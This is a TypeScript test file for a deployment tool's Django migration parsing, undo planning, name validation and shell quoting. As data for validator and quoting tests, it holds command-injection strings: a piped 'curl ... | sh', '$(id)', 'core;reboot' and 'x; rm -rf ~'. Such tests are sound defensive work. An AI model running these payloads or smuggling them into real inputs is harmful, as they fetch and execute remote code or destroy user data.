import assert from "node:assert/strict";
import { test } from "node:test";
import type { Environment } from "../../schema/index.js";
import { migrationsOf, migrationsToUndo, parseMigrationPlan, summarizeMigrations, undoCommandLine } from "./migrations.js";

// Django's own `showmigrations --plan` output, with and without verbosity's dependency notes.
const PLAN = `[X]  contenttypes.0001_initial
[X]  auth.0001_initial
[X]  tsosi.0001_initial
[X]  tsosi.0002_badge ... (applied at 2024-03-01)
[ ]  tsosi.0003_scipost
System check identified no issues (0 silenced).
`;

test("the plan's applied lines become app.name pairs; unapplied and other lines are left out", () => {
  assert.deepEqual(
    parseMigrationPlan(PLAN).map((m) => `${m.app}.${m.name}`),
    ["contenttypes.0001_initial", "auth.0001_initial", "tsosi.0001_initial", "tsosi.0002_badge"],
  );
  assert.deepEqual(summarizeMigrations(parseMigrationPlan(PLAN)), [
    { app: "contenttypes", count: 1, last: "0001_initial" },
    { app: "auth", count: 1, last: "0001_initial" },
    { app: "tsosi", count: 2, last: "0002_badge" },
  ]);
});

test("the undo takes each app back to the target's last migration (or zero), newest app first, through the same manage.py", () => {
  const env = { release: { migrations: ["/usr/bin/poetry", "run", "python", "manage.py", "showmigrations", "--plan"] } } as unknown as Environment;
  const m = (s: string) => ({ app: s.split(".")[0]!, name: s.split(".")[1]! });
  const target = ["auth.0001_initial", "tsosi.0001_initial"].map(m);
  const live = ["auth.0001_initial", "tsosi.0001_initial", "tsosi.0002_badge", "blog.0001_initial", "tsosi.0003_scipost"].map(m);
  assert.deepEqual(migrationsToUndo(env, live, target), [
    {
      app: "tsosi",
      unknown: ["0002_badge", "0003_scipost"],
      to: "0001_initial",
      command: ["/usr/bin/poetry", "run", "python", "manage.py", "migrate", "tsosi", "0001_initial"],
    },
    { app: "blog", unknown: ["0001_initial"], to: "zero", command: ["/usr/bin/poetry", "run", "python", "manage.py", "migrate", "blog", "zero"] },
  ]);
  assert.deepEqual(migrationsToUndo(env, target, live), []);
});

test("migrations.json read back is believed only when every name is one gen writes: an app label or a migration name", () => {
  const good = { applied: [{ app: "core", name: "0001_initial" }] };
  assert.deepEqual(migrationsOf(good), [{ app: "core", name: "0001_initial" }]);
  for (const name of ["0001; curl https://x.invalid | sh #", "0001 initial", "$(id)", "0001\n", "", "a".repeat(201), "ü"])
    assert.equal(migrationsOf({ applied: [...good.applied, { app: "core", name }] }), undefined, JSON.stringify(name));
  assert.equal(migrationsOf({ applied: [{ app: "core;reboot", name: "0001_initial" }] }), undefined);
  assert.equal(migrationsOf({ applied: [{ app: "core", name: 1 }] }), undefined);
  assert.equal(migrationsOf({ applied: "core.0001" }), undefined);
  // Only the two fields are kept: nothing else of the file travels on to the output.
  assert.deepEqual(migrationsOf({ applied: [{ app: "core", name: "0001_initial", note: "\u001b[2J" }] }), [{ app: "core", name: "0001_initial" }]);
});

test("the undo command is printed with every word shell-quoted", () => {
  const undo = {
    app: "core",
    unknown: ["0002_badge"],
    to: "0001_initial",
    command: ["/opt/my app/poetry", "run", "python", "manage.py", "migrate", "core", "0001_initial"],
  };
  assert.equal(
    undoCommandLine("/var/www/releases/20260102T000000Z/backend", undo),
    "cd /var/www/releases/20260102T000000Z/backend && '/opt/my app/poetry' run python manage.py migrate core 0001_initial",
  );
  assert.equal(
    undoCommandLine("/srv/it's", { ...undo, command: ["python", "manage.py", "migrate", "core", "x; rm -rf ~"] }),
    `cd '/srv/it'\\''s' && python manage.py migrate core 'x; rm -rf ~'`,
  );
});
